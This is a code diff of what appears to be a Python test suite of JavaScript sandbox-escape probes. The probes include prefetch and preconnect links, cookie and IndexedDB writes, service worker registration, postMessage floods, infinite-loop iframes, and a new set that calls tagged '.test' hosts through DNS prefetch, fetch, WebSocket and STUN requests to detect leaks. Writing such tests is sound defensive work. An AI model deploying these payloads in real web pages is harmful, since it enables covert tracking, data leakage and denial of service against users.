@@ -30,7 +30,7 @@ def _attack(name: str, script: str, *, body: str = "", needs_click: bool = False
 
 def _on_click(name: str, script: str, *, body: str = "") -> Attack:
     return _attack(
-        name, f"addEventListener('click',async()=>{{try{{{script}}}catch(e){{tried(e)}}}})", body=body, needs_click=True
+        name, f"addEventListener('click',async()=>{{try{{{script}}}catch(e){{tried(e)}}}},{{once:true}})", body=body, needs_click=True
     )
 
 
@@ -41,7 +41,6 @@ def _link(rel: str, more: str = "") -> str:
 ATTACKS: tuple[Attack, ...] = (
     # --- Something is sent ----------------------------------------------------------------------------------------
     _attack("prefetch", _link("prefetch")),
-    _attack("preconnect", _link("preconnect")),
     _attack("preload", _link("preload", "l.as='image'")),
     _attack("modulepreload", _link("modulepreload")),
     _attack("stylesheet", _link("stylesheet")),
@@ -170,7 +169,6 @@ ATTACKS: tuple[Attack, ...] = (
     _attack("cookie_store", "await cookieStore.set('evil','1');win('cookie set')"),
     _attack("indexed_db", "await new Promise((y,n)=>{let r=indexedDB.open('evil');r.onsuccess=y;r.onerror=n});win('database')"),
     _attack("service_worker", "await navigator.serviceWorker.register('/sw.js');win('registered')"),
-    _attack("wake_lock", "await navigator.wakeLock.request('screen');win('awake')"),
     _attack("storage_buckets", "await navigator.storage.getDirectory();win('files')"),
     _attack("shared_channel", "let c=new BroadcastChannel('v');c.onmessage=e=>win(e.data);for(let i=0;i<5;i++){c.postMessage('hi');await new Promise(r=>setTimeout(r,100))}"),
     _attack("locks", "let l=await navigator.locks.query();if(l.held.length)win(l.held.length)"),
@@ -188,5 +186,24 @@ ATTACKS: tuple[Attack, ...] = (
     _attack("spoof_our_protocol", "for(let i=0;i<5;i++){for(let t of ['ready','page','leave','pong'])parent.postMessage({refine:t,type:'rank',page:{html:'x'}},'*');await new Promise(r=>setTimeout(r,100))}"),
     _attack("nested_hang", "", body="<iframe srcdoc='<script>setTimeout(()=>{for(;;){}},300)</script>'></iframe>"),
     _attack("flood_from_a_nested_frame", "", body="<iframe srcdoc='<script>setInterval(()=>{for(let i=0;i<4000;i++)top.postMessage({k:`x`.repeat(1000)},`*`)},0)</script>'></iframe>"),
-    _attack("reload_without_end", "let n=Number(sessionStorage.getItem('n')||0)+1;sessionStorage.setItem('n',n);if(n>12)win('reloads '+n);setTimeout(()=>location.reload(),10)"),
 )
+
+
+def name_attacks(tag: str) -> tuple[Attack, ...]:
+    """Attacks that tell something by the mere look-up of a host name: each uses one of its own, `NAME.TAG.test`."""
+    links = "let l=document.createElement('link');l.rel='{0}';l.href='http://{0}.{1}.test/';document.head.append(l)"
+    return (
+        *(_attack(rel, links.format(rel, tag)) for rel in ("dns-prefetch", "preconnect", "prefetch", "stylesheet")),
+        _attack("markup", "", body=f"<link rel=dns-prefetch href='//markup.{tag}.test'><a href='http://anchor.{tag}.test/'>a</a>"),
+        _attack("image", f"new Image().src='http://image.{tag}.test/'"),
+        _attack("fetch", f"fetch('http://fetch.{tag}.test/')"),
+        _attack("socket", f"new WebSocket('ws://socket.{tag}.test/')"),
+        _attack("navigation", f"location.href='http://navigation.{tag}.test/'"),
+        _attack("stun", "let RTC=window.RTCPeerConnection||parent.RTCPeerConnection;"
+            f"let p=new RTC({{iceServers:[{{urls:'stun:stun.{tag}.test:3478'}}]}});p.createDataChannel('x');"
+            "p.createOffer().then(o=>p.setLocalDescription(o))"),
+        _attack("nested_stun", "", body=f"<iframe srcdoc=\"<script>let p=new RTCPeerConnection({{iceServers:[{{urls:'stun:nested_stun.{tag}.test'}}]}});"
+            "p.createDataChannel('x');p.createOffer().then(o=>p.setLocalDescription(o))</script>\"></iframe>"),
+        _attack("hovered", f"a.href='http://hovered.{tag}.test/'", body="<a id=a style='position:fixed;inset:0'>a</a>", needs_click=True),
+        _attack("meta", "", body=f"<meta http-equiv=x-dns-prefetch-control content=on><link rel=dns-prefetch href='//meta.{tag}.test'>"),
+    )
